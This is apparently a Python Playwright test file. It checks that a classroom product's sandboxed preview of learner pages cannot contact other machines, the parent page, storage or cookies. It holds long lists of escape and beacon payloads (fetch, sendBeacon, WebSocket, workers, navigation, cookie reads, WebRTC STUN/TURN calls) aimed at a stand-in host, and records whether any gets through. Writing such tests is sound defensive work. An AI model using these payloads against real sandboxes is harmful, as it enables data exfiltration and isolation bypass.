"""A learner's page reaches nothing: no other machine, not the box, not the page around it, nothing of whoever is signed in."""

import http.server
import json
import socketserver
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser, Page, Response

from tests.stories.conftest import Classroom
from tests.stories.devices import Devices
from tests.stories.engines import Engines

PATIENCE_SECONDS = 10
# A name that leads to this machine; {away} in an attack is its address and the port of the listener.
AWAY = "http://hq.lan:{port}/"
LOADS = (
    '<meta http-equiv="refresh" content="0;url={away}refresh">',
    '<base href="{away}"><img src="based">',
    '<link rel="stylesheet" href="{away}sheet">',
    '<link rel="preload" as="image" href="{away}preload"><link rel="prefetch" href="{away}prefetch">',
    '<link rel="preconnect" href="{away}"><link rel="dns-prefetch" href="{away}">',
    '<link rel="modulepreload" href="{away}module"><link rel="icon" href="{away}icon">',
    '<link rel="manifest" href="{away}manifest"><style>@import url({away}import);</style>',
    "<style>@font-face {{ font-family: x; src: url({away}font) }} b {{ font-family: x }}</style><b>x</b>",
    '<p style="background: url({away}background)">x</p><table background="{away}table"><tr><td>x</table>',
    '<img src="{away}img" srcset="{away}one 1x, {away}two 2x" onerror="parent.reached = 1">',
    '<img src="/state.json"><iframe src="/home"></iframe><object data="/state.json"></object>',
    '<object data="{away}object"></object><embed src="{away}embed"><iframe srcdoc="<img src={away}inner>"></iframe>',
    '<video src="{away}video" poster="{away}poster" autoplay><track default src="{away}track"></video>',
    '<audio src="{away}audio"></audio>',
    '<svg><image href="{away}svg"/><use href="{away}use#x"/></svg><input type="image" src="{away}input">',
    '<a class="go" href="{away}link" ping="{away}ping">x</a><a class="go" href="/home">x</a>',
    '<a class="go" href="{away}blank" target="_blank">x</a><a class="go" href="{away}top" target="_top">x</a>',
    '<a class="go" href="data:text/plain,x" download="x">x</a><a class="go" href="javascript:parent.reached = 1">x</a>',
    '<form action="{away}form" method="post"><input name="a" value="b"><button class="go">x</button></form>',
    '<form action="/home"><button class="go" formtarget="_top">x</button></form>',
)
SCRIPTS = (
    "fetch('{away}fetch', {{mode: 'no-cors'}}).catch(() => {{}}); fetch('/state.json').catch(() => {{}})",
    "const r = new XMLHttpRequest(); r.open('GET', '{away}xhr'); r.send()",
    "navigator.sendBeacon('{away}beacon', 'x')",
    "new WebSocket('{away}socket'.replace('http', 'ws')); new EventSource('{away}events')",
    "new Image().src = '{away}image'; document.body.style.background = 'url({away}background)'",
    "const s = document.createElement('script'); s.src = '{away}script'; document.head.append(s)",
    "import('{away}module').catch(() => {{}})",
    "new Worker('{away}worker')",
    "new Worker(URL.createObjectURL(new Blob(['fetch(`{away}worker`)'])))",
    "document.body.innerHTML = `<iframe src='{away}frame'></iframe><link rel=stylesheet href='{away}sheet'>`",
    "location = '{away}location'",
    "location = '/home'",
    "location.reload()",
    "location = 'data:text/html,<img src={away}data>'",
    "location = URL.createObjectURL(new Blob(['<img src={away}blob>'], {{type: 'text/html'}}))",
    "top.location = '{away}top'",
    "parent.location.href = '{away}parent'",
    "window.open('{away}open')",
    "history.back()",
    "const a = document.createElement('a'); a.href = '{away}a'; a.target = '_top'; document.body.append(a); a.click()",
    "const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x'; document.body.append(a); a.click()",
    "const f = document.createElement('form'); f.action = '{away}form'; document.body.append(f); f.submit()",
    "const f = document.createElement('form'); f.action = '/home'; f.method = 'post'; document.body.append(f); f.submit()",
    "parent.document.title = 'reached'",
    "parent.reached = 1",
    "document.title = document.cookie",
    "localStorage.reached = 1",
    "sessionStorage.reached = 1",
    "indexedDB.open('reached')",
    "navigator.serviceWorker.register('/reached')",
    "new RTCPeerConnection({{iceServers: [{{urls: 'stun:hq.lan'}}]}})",
    "parent.postMessage({{campbox: 'page'}}, '*'); parent.postMessage({{type: 'tested'}}, '*')",
)
# Each goes past every policy: `go` connects with the constructor it gets, and CONNECT is the same as a text of its own.
CONNECT = """const go = (C) => {
  const connection = new C({iceServers: [
    {urls: 'stun:127.0.0.1:PORT'}, {urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'a', credential: 'b'}]});
  connection.createDataChannel('x');
  connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  return connection;
};"""
OWN_TEXT = 'frame.srcdoc = `<img src=x onerror="${CONNECT}; go(RTCPeerConnection)">`'
DECLARED = (
    "`<template shadowroot`, `mode=closed><iframe srcdoc='<img src=x onerror=\"${CONNECT}; go(RTCPeerConnection)\">'></iframe>`"
)
CALLS = (
    "go(RTCPeerConnection)",
    "go(webkitRTCPeerConnection)",
    "document.body.append(frame); go(frame.contentWindow.RTCPeerConnection)",
    "frame.srcdoc = `<script>${CONNECT}; go(RTCPeerConnection)<\\/script>`; document.body.append(frame)",
    f"{OWN_TEXT}; document.body.append(frame)",
    f"document.body.append(frame); {OWN_TEXT}",
    f"{OWN_TEXT}; document.body.attachShadow({{mode: 'closed'}}).append(frame)",
    f"document.write({DECLARED})",
    "document.body.setHTMLUnsafe([DECLARED].join(''))".replace("DECLARED", DECLARED),
    "frame.src = `javascript:${encodeURIComponent(CONNECT)}; go(RTCPeerConnection)`; document.body.append(frame)",
)
CALL_FROM_HERE = "(connect) => { window.connection = new Function(`${connect}; return go(RTCPeerConnection)`)(); }"
SHOW_TO_ITS_END = """(code) => new Promise((resolve) => engines.preview.show(
  {'index.html': code}, {script: true, onOutput: (text) => text.includes('end') && resolve()}))"""
# In the worker of JavaScript, whose missing functions are no protection: its policy is.
PROGRAMS = (
    "import('{away}module').catch(() => {{}})",
    "new FontFace('x', 'url({away}font)').load().catch(() => {{}})",
    "WorkerGlobalScope.prototype.fetch.call(self, '{away}fetch').catch(() => {{}})",
    "WorkerGlobalScope.prototype.importScripts.call(self, '{away}script')",
    "fetch('{away}fetch')",
    "importScripts('{away}script')",
    "new WebSocket('{away}socket'.replace('http', 'ws'))",
    "new Worker(URL.createObjectURL(new Blob(['fetch(`{away}worker`)'])))",
    "indexedDB.open('reached')",
    "postMessage({{type: 'done', error: null, tables: []}})",
    "close()",
    "self.onmessage = null; dispatchEvent(new MessageEvent('message', {{data: {{type: 'start'}}}}))",
)
# Which of them must already fail where they are called; others go on and reach nothing.
REFUSED = (
    "new Worker('",
    "top.",
    "parent.",
    "document.title",
    "localStorage",
    "sessionStorage",
    "indexedDB",
    "navigator.service",
    "new RTC",
)
GO = """() => {
  const {contentDocument} = document.querySelector('.preview iframe');
  if (contentDocument) contentDocument.querySelectorAll('.go').forEach((each) => each.click());
}"""
REACHED = """() => ({title: document.title, reached: window.reached, stored: Object.keys(localStorage), cookie: document.cookie,
  frames: document.querySelectorAll('iframe').length})"""


@dataclass
class Listener:
    """Another machine, which notes who speaks to it."""

    port: int = 0
    heard: list[str] = field(default_factory=list)
    called: threading.Event = field(default_factory=threading.Event)


@pytest.fixture
def listener() -> Iterator[Listener]:
    listener = Listener()

    class Note(http.server.BaseHTTPRequestHandler):
        def handle_one_request(self) -> None:
            listener.heard.append(self.rfile.readline().decode(errors="replace"))
            self.close_connection = True

    class NoteCall(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            listener.heard.append("a call")
            listener.called.set()

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Note)
    listener.port = server.server_port
    with server, socketserver.UDPServer(("127.0.0.1", listener.port), NoteCall) as calls:
        threads = [threading.Thread(target=each.serve_forever) for each in (server, calls)]
        for thread in threads:
            thread.start()
        yield listener
        for each, thread in zip((server, calls), threads, strict=True):
            each.shutdown()
            thread.join()


@pytest.fixture(scope="module")
def page(chromium: Browser, classroom: Classroom) -> Iterator[Page]:
    """A learner's page whose console may be loud: each refusal is told there."""
    with Devices(chromium) as devices:
        state = classroom.learner(devices, "en", "Amina").page.context.storage_state()
    context = chromium.new_context(storage_state=state)
    page = context.new_page()
    page.goto(f"{classroom.box.address}/try/web-first-steps/title-place")
    yield page
    context.close()


@pytest.mark.parametrize("script", [False, True], ids=["without script", "with script"])
def test_what_a_page_holds_loads_nothing(page: Page, listener: Listener, script: bool) -> None:
    closed = Closed(page, listener)
    for attack in LOADS:
        closed.tries(attack, script=script)
    closed.reached_nothing()


def test_what_a_script_tries_is_refused(page: Page, listener: Listener) -> None:
    closed = Closed(page, listener)
    for attack in SCRIPTS:
        printed = closed.tries(
            f"<p>x</p><script>try {{{{ {attack} }}}} catch (e) {{{{ console.log('refused') }}}}</script>", script=True
        )
        assert printed == ("refused\n" if attack.startswith(REFUSED) and "postMessage" not in attack else ""), attack
    closed.reached_nothing()


def test_no_page_calls_another_machine(page: Page, listener: Listener) -> None:
    closed = Closed(page, listener)
    connect = CONNECT.replace("PORT", str(listener.port))
    page.evaluate(CALL_FROM_HERE, connect)
    assert listener.called.wait(PATIENCE_SECONDS), "the listener hears whoever may call"
    page.evaluate("connection.close()")
    listener.heard.clear()
    for call in CALLS:
        script = f"const CONNECT = {json.dumps(connect)}; {connect} const frame = document.createElement('iframe'); {call}"
        page.evaluate(SHOW_TO_ITS_END, f"<body><script>setTimeout(() => console.log('end'), 700); {script}</script>")
        assert (call, listener.heard) == (call, [])
    closed.reached_nothing()


def test_what_a_program_tries_reaches_nothing(page: Page, listener: Listener) -> None:
    closed = Closed(page, listener)
    for attack in PROGRAMS:
        closed.runs(f"try {{{{ {attack} }}}} catch (e) {{{{}}}}\nsetTimeout(() => console.log('end'), 100)")
    closed.reached_nothing()


def test_script_of_a_page_without_script_does_not_run(page: Page, listener: Listener) -> None:
    closed = Closed(page, listener)
    for attack in SCRIPTS:
        closed.tries(f'<p onclick="{attack}" class="go">x</p><script>parent.reached = 1</script><img src=x onerror="{attack}">')
    closed.reached_nothing()


class Closed:
    """Tries attacks in the preview, and looks at what they reached."""

    def __init__(self, page: Page, listener: Listener) -> None:
        page.reload()
        self._engines = Engines(page)
        self._page = page
        self._listener = listener
        self._away = AWAY.format(port=listener.port)
        self._before = page.evaluate(REACHED)
        self._address = page.url
        self._pages = len(page.context.pages)
        self._answers: list[str] = []
        self._downloads: list[str] = []
        page.on("response", self._note)
        page.on("download", lambda download: self._downloads.append(download.url))

    def tries(self, attack: str, *, script: bool = False) -> str:
        """Show it and press whatever can be pressed; returns what it printed."""
        show = self._engines.show(attack.format(away=self._away), script=script)
        self._page.evaluate(GO)
        # A real request to the box, after which all that was asked for before has been answered.
        self._page.evaluate("async () => (await fetch('/state.json?last', {cache: 'no-store'})).text()")
        return str(show["printed"])

    def runs(self, attack: str) -> None:
        """As a program of JavaScript, which then goes on to its own end."""
        run = self._engines.run("javascript", attack.format(away=self._away))
        assert (run["status"], run["printed"]) == ("done", "end\n"), attack

    def reached_nothing(self) -> None:
        assert self._listener.heard == []
        assert self._answers == []
        assert self._downloads == []
        assert self._page.url == self._address
        assert len(self._page.context.pages) == self._pages
        after = self._page.evaluate(REACHED)
        assert {**after, "frames": 0} == {**self._before, "frames": 0}
        # It can still be used.
        assert self._engines.show("<p>x</p><script>console.log('alive')</script>", script=True)["printed"] == "alive\n"

    def _note(self, response: Response) -> None:
        own = ("/static/", "/assets/", "/run/", "/state.json?last")
        path = response.url.removeprefix(self._address.split("/x/")[0])
        if not path.startswith((*own, "blob:", "data:")):
            self._answers.append(response.url)
